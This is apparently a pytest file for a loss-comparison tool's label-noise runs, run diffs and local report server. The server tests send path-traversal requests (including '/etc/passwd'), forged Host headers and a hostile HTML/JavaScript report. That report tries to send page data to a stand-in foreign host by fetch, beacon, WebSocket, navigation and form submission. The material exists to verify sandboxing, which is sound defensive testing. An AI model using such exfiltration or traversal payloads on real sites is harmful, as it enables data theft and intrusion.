"""Several comparisons: over label noise, two side by side, and the server that lists them."""

import http.client
import http.server
import json
import os
import re
import shutil
import socket
import struct
import threading
import types
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import quote

import numpy as np
import polars as pl
import pytest
from scipy import stats as distributions
from typer.testing import CliRunner, Result

from lossfit.commands.app import app
from lossfit.compare.errors import InputError
from lossfit.compare.report import diff, server
from lossfit.compare.report import noise as noise_page
from lossfit.compare.running import label_noise, store
from pages import DRAWN, HOSTILE, LEAST_CONTRAST, Page, View
from trainings import short_trainings

NAME = HOSTILE.replace("/", " ")


def run(*arguments: object) -> Result:
    return CliRunner().invoke(app, [str(a) for a in arguments])


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A comparison at two levels of noise, another of other losses, and what is none; all names are hostile."""
    folder = tmp_path_factory.mktemp("runs")
    data = folder / f"{NAME}.csv"
    rows = [f'{(i * 7) % 5 + 3 * (i % 2)},"{HOSTILE}{i % 2}"' for i in range(60)]
    data.write_text("\n".join([f"x,{HOSTILE}", *rows]))
    options = ("--target", HOSTILE, "--folds", 3, "--repeats", 1, "--trials", 1, "--workers", 1, "--model", "linear")
    for arguments in (
        (*options, "--losses", "focal", "--label-noise", "0.3,0", "--out", folder / NAME),
        (*options, "--losses", "focal,squared", "--metric", "log_loss", "--out", folder / "below" / "other"),
    ):
        with short_trainings():
            found = run("compare", data, *arguments)
        assert found.exit_code == 0, found.output
    (folder / "unfinished").mkdir()
    (folder / "unfinished" / "report.html").write_text("not one of ours")
    return folder


class TestNoise:
    """--label-noise with several levels."""

    def test_levels(self) -> None:
        assert label_noise.levels("0.4") == [0.4]
        assert label_noise.levels("0.4,0,0.1") == [0.0, 0.1, 0.4]

    @pytest.mark.parametrize(
        ("text", "told"),
        [
            ("0,much", "a number, or several separated by commas such as 0,0.2,0.4, but got '0,much'"),
            ("", "but got ''"),
            ("0,1", r"--label-noise in \[0, 1\), but got 1.0"),
            ("nan", r"--label-noise in \[0, 1\), but got nan"),
            ("0.1,0.10", "different levels of --label-noise, but got '0.1,0.10'"),
        ],
    )
    def test_bad_levels(self, text: str, told: str) -> None:
        with pytest.raises(InputError, match=told):
            label_noise.levels(text)

    def test_each_level_is_a_comparison_of_its_own(self, root: Path) -> None:
        out = root / NAME
        assert sorted(p.name for p in out.iterdir()) == ["noise-0", "noise-0.3", "noise.json", "report.html"]
        for level in ("0", "0.3"):
            summary = json.loads((out / f"noise-{level}" / "summary.json").read_text())
            assert summary["label_noise"] == float(level)
            assert (out / f"noise-{level}" / "report.html").is_file()
        told = json.loads((out / "noise.json").read_text())
        assert [level["label_noise"] for level in told["levels"]] == [0.0, 0.3]
        links = [a["href"] for tag, a in Page((out / "report.html").read_text()).elements if tag == "a"]
        assert links == ["noise-0/report.html", "noise-0.3/report.html"]

    def test_resuming(self, root: Path) -> None:
        options = (
            "--target",
            HOSTILE,
            "--folds",
            3,
            "--repeats",
            1,
            "--trials",
            1,
            "--model",
            "linear",
            "--losses",
            "focal",
        )
        again = (root / f"{NAME}.csv", *options, "--out", root / NAME, "--label-noise", "0,0.3")
        refused = run("compare", *again)
        assert refused.exit_code == 2
        assert "Pass --resume" in refused.stderr
        before = (root / NAME / "noise-0.3" / "results.parquet").read_bytes()
        assert run("compare", *again, "--resume").exit_code == 0
        assert (root / NAME / "noise-0.3" / "results.parquet").read_bytes() == before
        other = run("compare", *again[:-4], "--label-noise", "0,0.3", "--out", root / "below" / "other", "--resume")
        assert other.exit_code == 2
        assert "holds something else" in other.stderr

    def test_intervals_of_means(self) -> None:
        entry = {"test": {"accuracy": {"mean": 0.7, "ci95": [0.6, 0.8]}}}
        assert noise_page.interval(entry, "accuracy") == (0.7, 0.6, 0.8)
        assert noise_page.interval({"test": {"accuracy": {"mean": None, "ci95": [None, None]}}}, "accuracy") is None


class TestDiff:
    """Two comparisons side by side."""

    def made(self, hits: np.ndarray, loss: str = "focal") -> diff.Run:
        """A run whose passes have these hits (P, N)."""
        rows = [
            {"loss": loss, "repeat": 0, "pass": j, "test_accuracy": own.mean(), "influence_accuracy": own - own.mean()}
            for j, own in enumerate(hits.astype(float))
        ]
        mean = float(hits.mean())
        entry = {"loss": loss, "test": {"accuracy": {"mean": mean, "ci95": [mean - 0.04, mean + 0.04]}}}
        return diff.Run(
            "x", {}, {"losses": [entry], "labels": "single_label", "metric": "accuracy"}, pl.DataFrame(rows)
        )

    def test_on_the_same_rows_and_on_others(self) -> None:
        rng = np.random.default_rng(0)
        easy = rng.random(300)
        first, second = (easy < rate + 0.02 * rng.standard_normal((4, 300)) for rate in (0.7, 0.75))
        a, b = self.made(first), self.made(second)
        within = diff.change(a, b, "focal", "accuracy", same_rows=True)
        assert within is not None
        d = second.astype(float) - first
        rows, passes = d.mean(0), d.mean(1)
        error = np.sqrt(rows.var(ddof=1) / 300 + 2 * passes.var(ddof=1) / 4)
        assert within.mean == pytest.approx(d.mean())
        assert within.high - within.mean == pytest.approx(distributions.t.ppf(0.975, 60) * error)
        assert within.p_value == pytest.approx(2 * distributions.t.sf(d.mean() / error, 60))
        apart = diff.change(a, b, "focal", "accuracy", same_rows=False)
        assert apart is not None
        assert apart.mean == pytest.approx(d.mean())
        assert apart.high - apart.mean == pytest.approx(np.hypot(0.04, 0.04))
        assert apart.high - apart.low > within.high - within.low

    def test_what_failed_in_one(self) -> None:
        a = self.made(np.ones((4, 30)))
        b = diff.Run("b", {}, {"losses": [{"loss": "focal", "test": {"accuracy": {"mean": None}}}]}, a.passes[:0])
        assert diff.change(a, b, "focal", "accuracy", same_rows=True) is None
        assert diff.change(a, b, "focal", "accuracy", same_rows=False) is None

    def test_a_repeat_that_one_has_not(self) -> None:
        a, b = self.made(np.ones((4, 30))), self.made(np.eye(4, 30))
        found = diff.change(a, diff.Run("b", {}, b.summary, b.passes[:2]), "focal", "accuracy", same_rows=True)
        assert found is not None
        assert found.mean == pytest.approx(1 / 30 - 1)

    def test_which_runs_share_their_folds(self, root: Path) -> None:
        clean, noisy = (diff.read_run(root / NAME / f"noise-{level}") for level in ("0", "0.3"))
        other = diff.read_run(root / "below" / "other")
        assert diff.paired(clean, noisy) == ""
        assert diff.paired(clean, other) == ""
        changed = diff.Run("x", {**noisy.plan, "seed": 1, "max_rows": 5}, noisy.summary, noisy.passes)
        assert diff.paired(clean, changed) == "seed, max rows"

    def test_the_page(self, root: Path, tmp_path: Path) -> None:
        out = tmp_path / "page.html"
        found = run("diff", root / NAME / "noise-0", root / "below" / "other", "--out", out)
        assert found.exit_code == 0, found.output
        told = " ".join(out.read_text().split('<script type="app')[0].replace("<", " <").split())
        told = " ".join(re.sub(r"<[^>]*>", " ", told).split())
        for fact in ("losses focal focal,squared", "metric accuracy log_loss", "Both runs test the same rows"):
            assert fact in told
        values = [
            diff.read_run(folder).of("focal")["test_accuracy"].mean()
            for folder in (root / NAME / "noise-0", root / "below" / "other")
        ]
        assert f"{100 * values[0]:.1f}" in told
        assert f"{100 * values[1]:.1f}" in told

    def test_bad_folders(self, root: Path, tmp_path: Path) -> None:
        found = run("diff", root / "unfinished", root / "below" / "other")
        assert found.exit_code == 2
        assert "to hold a finished comparison, but there is no plan.json" in " ".join(found.stderr.split())
        for name in ("plan.json", "summary.json"):
            (tmp_path / name).write_text("{}")
        pl.DataFrame({"loss": ["focal"]}).write_parquet(tmp_path / "passes.parquet")
        with pytest.raises(InputError, match=r"The comparison in .* was written by lossfit None, whose plan"):
            diff.read_run(tmp_path)
        other = root / "below" / "other"
        for name, spoil, told in (
            ("summary.json", {"folds": "3"}, "is no summary of this lossfit .*: summary.folds is '3', not integer"),
            ("summary.json", {"metric": "micro_f1"}, "summary.metric is no metric of single_label"),
            ("summary.json", {"version": 1}, "summary.version is 1"),
            ("summary.json", {"losses": []}, "summary.losses has 0 entries"),
            ("summary.json", {"free": "poly"}, "summary.free is not once among the losses"),
            ("summary.json", {"tested": 61}, "has other rows than the 61 of summary.json"),
            ("plan.json", {"seed": "0"}, "plan.json' cannot be read: seed is '0'"),
        ):
            for file in diff.FILES:
                shutil.copy(other / file, tmp_path / file)
            contents = json.loads((tmp_path / name).read_text())
            (tmp_path / name).write_text(json.dumps({**contents, **spoil}))
            with pytest.raises(InputError, match=told):
                diff.read_run(tmp_path)
        shutil.copy(other / "summary.json", tmp_path / "summary.json")
        shutil.copy(other / "plan.json", tmp_path / "plan.json")
        pl.DataFrame({"loss": ["focal"]}).write_parquet(tmp_path / "passes.parquet")
        with pytest.raises(InputError, match=r"passes.parquet' was not written by this version of lossfit"):
            diff.read_run(tmp_path)
        (tmp_path / "passes.parquet").write_bytes(
            store.sealed(tmp_path / "passes.parquet", "a1" * 32, pl.DataFrame({"loss": ["focal"]}))
        )
        with pytest.raises(InputError, match=r"passes.parquet' holds no passes: its column 'repeat' is missing"):
            diff.read_run(tmp_path)
        (tmp_path / "passes.parquet").write_bytes((other / "passes.parquet").read_bytes()[:-9])
        with pytest.raises(InputError, match=r"passes.parquet' (is damaged|cannot be read|was not written)"):
            diff.read_run(tmp_path)
        found = run("diff", root / "below" / "other", root / "below" / "other", "--out", tmp_path)
        assert found.exit_code == 2
        assert "is a folder; name a file by --out" in " ".join(found.stderr.split())


@contextmanager
def serving(folder: Path) -> Iterator[ThreadingHTTPServer]:
    served = server.make(folder, 0)
    thread = threading.Thread(target=served.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield served
    finally:
        served.shutdown()
        served.server_close()
        thread.join()


@pytest.fixture(scope="module")
def running(root: Path) -> Iterator[ThreadingHTTPServer]:
    with serving(root) as served:
        yield served


def ask(running: ThreadingHTTPServer, path: str, method: str = "GET", host: str | None = None) -> tuple[int, str, Any]:
    connection = http.client.HTTPConnection("127.0.0.1", running.server_port, timeout=300)
    connection.putrequest(method, path, skip_host=True)
    connection.putheader("Host", f"127.0.0.1:{running.server_port}" if host is None else host)
    connection.endheaders()
    answer = connection.getresponse()
    found = answer.status, answer.read().decode(), answer.headers
    connection.close()
    return found


class TestServe:
    """lossfit serve."""

    def test_it_lists_what_is_there(self, running: ThreadingHTTPServer, root: Path) -> None:
        status, text, headers = ask(running, "/")
        assert status == 200
        assert "frame-ancestors 'none'" in headers["Content-Security-Policy"]
        links = [a["href"] for tag, a in Page(text).elements if tag == "a"]
        name = quote(NAME, safe="")
        expected = [f"/runs/{at}report.html" for at in (f"{name}/", f"{name}/noise-0/", f"{name}/noise-0.3/")]
        assert sorted(links) == sorted([*expected, "/runs/below/other/report.html"])
        assert "<script>alert" not in text
        summary = json.loads((root / "below" / "other" / "summary.json").read_text())
        assert diff.wording.answer(summary)[0] in " ".join(Page(text).text.split())
        for link in expected:
            status, text, headers = ask(running, link)
            assert status == 200
            frames = [a for tag, a in Page(text).elements if tag == "iframe"]
            assert [frame["sandbox"] for frame in frames] == ["allow-scripts"]
            assert "frame-src 'self'" in headers["Content-Security-Policy"]
            assert "script-src" not in headers["Content-Security-Policy"]
            status, text, headers = ask(running, str(frames[0]["src"]))
            assert status == 200
            assert headers["Content-Security-Policy"].startswith("sandbox allow-scripts; default-src 'none'; ")
            assert "form-action 'none'" in headers["Content-Security-Policy"]
            assert "<table" in text
        assert ask(running, "/", "HEAD")[:2] == (200, "")

    def test_a_folder_that_is_a_run(self, root: Path) -> None:
        found, left_out = server.find(root / "below" / "other")
        assert (list(found), left_out) == ([""], [])
        assert found[""].comparable

    def test_what_is_not_listed_is_named_with_the_reason(self, tmp_path: Path) -> None:
        for name in ("begun", "broken", "linked", "empty", "other"):
            (tmp_path / name).mkdir()
        for name in ("begun", "broken", "empty"):
            (tmp_path / name / "plan.json").write_text("{}")
        for name in ("broken", "empty"):
            (tmp_path / name / "report.html").write_text("a report")
        (tmp_path / "broken" / "summary.json").write_text("{")
        (tmp_path / "linked" / "report.html").symlink_to(tmp_path / "broken" / "report.html")
        (tmp_path / "other" / "notes.txt").write_text("none of ours")
        found, left_out = server.find(tmp_path)
        assert found == {}
        assert {run.name: run.why.split(":")[0] for run in left_out} == {
            "begun": "it is not finished; the same command with --resume goes on with it",
            "broken": "summary.json cannot be read",
            "linked": "its report is a link, a pipe or a device",
            "empty": "summary.json is not there",
        }
        page = Page(server.overview(tmp_path, found, left_out, "a1b2")).text
        for run in left_out:
            assert f"{run.name}: {run.why}." in " ".join(page.split())

    @pytest.mark.parametrize(
        "name", ["evil.example", "evil.example:{port}", "127.0.0.1", "127.0.0.1:1", "", "[::1]:{port}"]
    )
    def test_another_name_is_refused(self, running: ThreadingHTTPServer, name: str) -> None:
        status, text, _ = ask(running, "/", host=name.format(port=running.server_port))
        assert status == 421
        assert "report.html" not in text
        assert ask(running, "/", host=f"localhost:{running.server_port}")[0] == 200

    @pytest.mark.parametrize(
        "path",
        [
            *("/runs/below/other/summary.json", "/runs/below/other/../other/report.html", "/runs/../report.html"),
            *("/runs/unfinished/report.html", "/runs//etc/passwd", "/runs/%2e%2e/report.html", "/etc/passwd"),
            *("/diff", "/diff?first=below/other/", "/diff?first=../&second=below/other/", "/runs/report.html"),
            *("/runs/linked/report.html", "/view/linked/report.html", "/view/unfinished/report.html"),
            *("/view/diff", "/runs/diff?first=below/other/", "//[", "/runs/diff?" + "a&" * 50, "/view/", "/runs"),
        ],
    )
    def test_nothing_else_is_served(self, running: ThreadingHTTPServer, root: Path, path: str) -> None:
        linked = root / "linked"
        if not linked.exists():
            linked.symlink_to(root / "below" / "other")
        status, text, _ = ask(running, path)
        assert status == 404
        assert text == "There is no such page."
        linked.unlink()

    @pytest.mark.parametrize("name", ["plan.json", "summary.json", "passes.parquet", "report.html"])
    def test_links_in_a_run_are_not_followed(self, root: Path, tmp_path: Path, name: str) -> None:
        """One bad file, and the other run is served as ever."""
        for run_name in ("bad", "good"):
            shutil.copytree(root / "below" / "other", tmp_path / "served" / run_name)
        path = tmp_path / "served" / "bad" / name
        path.rename(tmp_path / name)
        path.symlink_to(tmp_path / name)
        with serving(tmp_path / "served") as running:
            links = [a["href"] for tag, a in Page(ask(running, "/")[1]).elements if tag == "a"]
            assert "/runs/good/report.html" in links
            assert ("/runs/bad/report.html" in links) == (name in ("plan.json", "passes.parquet"))
            status, text, _ = ask(running, "/view/diff?first=good/&second=bad/")
            assert status in (404, 422)
            assert status == 404 or "is a link" in text
            assert ask(running, "/view/diff?first=good/&second=good/")[0] == 200

    def test_one_bad_file_does_not_take_it_down(
        self, root: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
    ) -> None:
        def spoil_json(path: Path) -> None:
            path.write_text("[" * 200_000)

        def spoil_pipe(path: Path) -> None:
            path.unlink()
            os.mkfifo(path)

        def spoil_size(path: Path) -> None:
            with path.open("wb") as file:
                file.truncate(400 << 20)

        bad = [
            (spoil, name)
            for spoil in (spoil_json, spoil_pipe, spoil_size)
            for name in ("plan.json", "summary.json", "results.parquet", "report.html")
        ]
        shutil.copytree(root / "below" / "other", tmp_path / "good")
        shutil.copytree(root / NAME, tmp_path / "noise")
        spoil_json(tmp_path / "noise" / "noise.json")
        for i, (spoil, name) in enumerate(bad):
            shutil.copytree(root / "below" / "other", tmp_path / f"bad{i}")
            spoil(tmp_path / f"bad{i}" / name)
        with serving(tmp_path) as running:
            for again in (False, True):
                status, text, _ = ask(running, "/")
                assert status == 200
                assert "/runs/good/report.html" in text
                for i in range(3 if again else len(bad)):
                    for path in (f"/view/bad{i}/report.html", f"/view/diff?first=good/&second=bad{i}/"):
                        status, text, _ = ask(running, path)
                        assert status in (200, 404, 422), text
                        assert len(text) < 1 << 23
            assert ask(running, "/view/good/report.html")[0] == 200
            with socket.create_connection(("127.0.0.1", running.server_port)) as leaving:
                leaving.sendall(
                    b"GET /view/good/report.html HTTP/1.1\r\nHost: 127.0.0.1:%d\r\n\r\n" % running.server_port
                )
                leaving.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            assert ask(running, "/")[0] == 200
        assert "Traceback" not in capfd.readouterr().err

    def test_a_browser_leaves_out_the_port_of_the_web(self, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        with serving(root) as running:
            assert ask(running, "/", host="127.0.0.1")[0] == 421
            monkeypatch.setattr(running, "server_port", 80)
            handler = types.SimpleNamespace(headers={"Host": "localhost"}, server=running, path="/none")
            sent: list[int] = []
            handler._send = lambda status, *more: sent.append(int(status))
            handler._page = lambda: None
            server._Handler._answer(handler)  # type: ignore[arg-type]
            assert sent == [404]

    def test_only_reading(self, running: ThreadingHTTPServer) -> None:
        assert ask(running, "/", "POST")[0] == 501

    def test_bad_arguments(self, running: ThreadingHTTPServer, root: Path) -> None:
        for arguments, told in (
            ((root / "missing",), "There is no folder"),
            ((root, "--port", 70000), "--port in [0, 65535], but got 70000"),
            ((root, "--port", running.server_port), f"Port {running.server_port} cannot be used"),
        ):
            found = run("serve", *arguments)
            assert found.exit_code == 2
            assert told in " ".join(found.stderr.split())

    def test_it_ends_by_one_line(self, root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        def interrupted(self: ThreadingHTTPServer) -> None:
            raise KeyboardInterrupt

        monkeypatch.setattr(ThreadingHTTPServer, "serve_forever", interrupted)
        found = run("serve", root, "--port", 0)
        assert found.exit_code == 0
        first, *rest = found.stdout.splitlines()
        assert first.startswith(f"Serving {root} on http://127.0.0.1:")
        assert [line for line in rest if line] == ["Not listed: unfinished: summary.json is not there.", "Stopped."]
        assert found.stderr == ""


@pytest.mark.browser
@pytest.mark.parametrize(("width", "scheme"), [(1280, "dark"), (400, "light")])
def test_a_browser_goes_through_all_of_it(browser: Any, running: ThreadingHTTPServer, width: int, scheme: str) -> None:
    """The list, the page over the noise, a level's report, and two runs side by side; names are text everywhere."""
    view = View(browser, width, scheme)
    page = view.page
    start = f"http://127.0.0.1:{running.server_port}/"

    def inside() -> Any:
        """The page in the frame, drawn."""
        frame = page.wait_for_selector("iframe").content_frame()
        frame.wait_for_function(f"document.querySelector('main') && {DRAWN}", timeout=20_000)
        return frame

    def sound(frame: Any, charts: int) -> None:
        assert frame.evaluate("document.querySelectorAll('.chart svg').length") == charts
        assert frame.evaluate("document.documentElement.scrollWidth") <= width
        assert "<script>alert" in frame.locator("main").inner_text()
        least, told, _ = frame.evaluate(LEAST_CONTRAST)
        assert least >= 4.5, told

    def text(frame: Any, chart: str) -> str:
        found: str = frame.evaluate(f"document.getElementById('{chart}').innerText")
        return found

    view.open(start)
    sound(page, 0)
    page.get_by_role("link", name=NAME, exact=True).click()
    frame = inside()
    sound(frame, 2)
    before = text(frame, "means")
    assert "Focal loss" in before
    frame.locator("[data-state=metric]").select_option("brier")
    frame.wait_for_function(f"document.getElementById('means').innerText !== {before!r}")
    assert "Brier score" in text(frame, "means")
    frame.locator("details.picker summary").click()
    frame.get_by_label("Focal loss", exact=True).uncheck()
    frame.wait_for_function("!document.getElementById('changes').innerText.includes('Focal loss')")
    frame.get_by_role("link", name="30%").click()
    frame.wait_for_selector("#differences")
    sound(inside(), 12)
    page.get_by_role("link", name="All comparisons").click()
    page.get_by_label("noise-0 as the first of two").check()
    page.get_by_label("noise-0.3 as the second of two").check()
    page.get_by_role("button", name="Compare the two picked").click()
    frame = inside()
    frame.wait_for_selector("#changes")
    sound(frame, 1)
    assert page.url.startswith(f"{start}runs/diff?first=")
    assert "label noise" in frame.locator("main").inner_text()
    assert frame.get_by_label("What differs").evaluate("e => e.scrollWidth <= e.clientWidth")
    assert view.faults == []
    assert all(request.startswith((start, "data:")) for request in view.requests)
    page.close()


HOSTILE_REPORT = """<!DOCTYPE html><title>report</title>
<a id=away href="FOREIGN/link" style="position:fixed;inset:0">Read on</a>
<a id=top href="FOREIGN/top" target=_top>top</a>
<form id=form action="FOREIGN/form" method=get><input name=a value=b></form>
<img src="FOREIGN/img"><link rel=stylesheet href="FOREIGN/css"><iframe src="FOREIGN/frame"></iframe>
<script>
const tries = [
  () => fetch("OWN/view/good/report.html").then(r => r.text()).then(t => location = "FOREIGN/stolen?" + t.length),
  () => fetch("FOREIGN/fetch", {mode: "no-cors"}),
  () => navigator.sendBeacon("FOREIGN/beacon", "x"),
  () => new WebSocket("FOREIGN/socket".replace("http", "ws")),
  () => { document.title = parent.document.title + parent.location.href },
  () => { top.location = "FOREIGN/topscript" },
  () => { window.open("FOREIGN/window") },
  () => { document.getElementById("form").submit() },
  () => { document.getElementById("top").click() },
  () => { document.cookie = "a=b"; localStorage.a = 1 },
  () => { location = "FOREIGN/script" },
];
const went = tries.map(go => { try { go(); return "went" } catch (error) { return error.name } });
window.went = went;
</script>"""


@pytest.mark.browser
def test_a_hostile_report_reads_and_sends_nothing(browser: Any, root: Path, tmp_path: Path) -> None:
    """It sees no other page, and what it has seen goes nowhere, neither by itself nor after a click."""
    asked: list[str] = []

    class Foreign(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args: Any) -> None:
            pass

    foreign = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Foreign)
    thread = threading.Thread(target=foreign.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    for name in ("bad", "good"):
        shutil.copytree(root / "below" / "other", tmp_path / name)
    try:
        with serving(tmp_path) as running:
            own = f"http://127.0.0.1:{running.server_port}"
            report = HOSTILE_REPORT.replace("FOREIGN", f"http://127.0.0.1:{foreign.server_port}").replace("OWN", own)
            page = browser.new_page()
            for address, contents in (
                ("/runs/bad/report.html", report),
                ("/view/bad/report.html", report),
                ("/runs/bad/report.html", report.split("<script>")[0]),
                ("/runs/bad/report.html", report.replace("<title>", '<meta http-equiv=refresh content="0; FOREIGN">')),
            ):
                (tmp_path / "bad" / "report.html").write_text(contents)
                page.goto(own + address)
                page.wait_for_selector("iframe")
                page.wait_for_timeout(500)
                assert page.url == own + address
                page.mouse.click(300, 200)  # on its link, wherever the frame still shows it
                page.wait_for_timeout(500)
                assert page.url == own + address
                assert len(page.context.pages) == 1
            page.close()
    finally:
        foreign.shutdown()
        foreign.server_close()
        thread.join()
    assert asked == []
